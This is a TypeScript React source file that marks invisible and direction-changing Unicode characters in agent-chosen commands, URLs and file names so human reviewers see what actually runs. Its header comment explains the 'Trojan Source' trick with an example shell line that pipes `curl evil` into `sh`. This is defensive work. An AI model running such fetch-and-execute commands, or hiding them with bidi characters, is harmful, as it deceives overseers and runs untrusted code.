// Text the agent chose (a command, a URL, a diff's lines) shown so that what the person reads is
// what runs. Bidirectional controls reorder what follows them on screen ("Trojan Source": with
// U+2067 … U+2069 a shell line shows `echo ok # sh|evil curl ;`, its curl seemingly in a
// comment, while bash runs `curl evil|sh`), and zero-width characters hide inside a word. Each
// is shown as a visible mark naming its code point, so none of them acts on the text around it.
import type { ReactNode } from "react";

/** Bidi controls (embeddings, overrides, isolates, marks) and invisible format characters, the
 *  tag characters (U+E0000…) among them, which spell text a model reads and a person does not see. */
const HIDDEN =
  /[\u061c\u115f\u1160\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2069\u3164\ufeff\uffa0\u{e0000}-\u{e007f}]/gu;
/** The same, and control characters: a file's name has no business holding a newline or a tab. */
const IN_NAME =
  /[\u061c\u115f\u1160\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2069\u3164\ufeff\uffa0\u{e0000}-\u{e007f}\x00-\x1f\x7f-\x9f\u2028\u2029]/gu;

/** The mark that stands for a hidden character. */
export const markOf = (ch: string) => `⟨U+${ch.codePointAt(0)!.toString(16).toUpperCase().padStart(4, "0")}⟩`;

/** Whether `text` holds a character VisibleText would mark. */
export const hasHidden = (text: string, name = false) => new RegExp((name ? IN_NAME : HIDDEN).source, "u").test(text);

/** `text` with each hidden character replaced by its mark, for a label or a title. */
export const markedText = (text: string) => text.replace(HIDDEN, markOf);

/** A file's name or path as plain text with its hidden and control characters marked: for a
 *  confirm() dialog, where a newline or a bidi control in the name would pass for other words. */
export const markedName = (text: string) => text.replace(IN_NAME, markOf);

/** `text` with each hidden character as a marked span, everything else plain text. `name`: a
 *  file's name or path, whose control characters are marked too. */
export function VisibleText({ text, name = false }: { text: string; name?: boolean }): ReactNode {
  if (!hasHidden(text, name)) return text;
  const parts: ReactNode[] = [];
  let at = 0;
  for (const m of text.matchAll(name ? IN_NAME : HIDDEN)) {
    if (m.index > at) parts.push(text.slice(at, m.index));
    parts.push(
      <mark key={m.index} data-hidden-char="" title="An invisible or direction-changing character">
        {markOf(m[0])}
      </mark>,
    );
    at = m.index + m[0].length;
  }
  if (at < text.length) parts.push(text.slice(at));
  return parts;
}
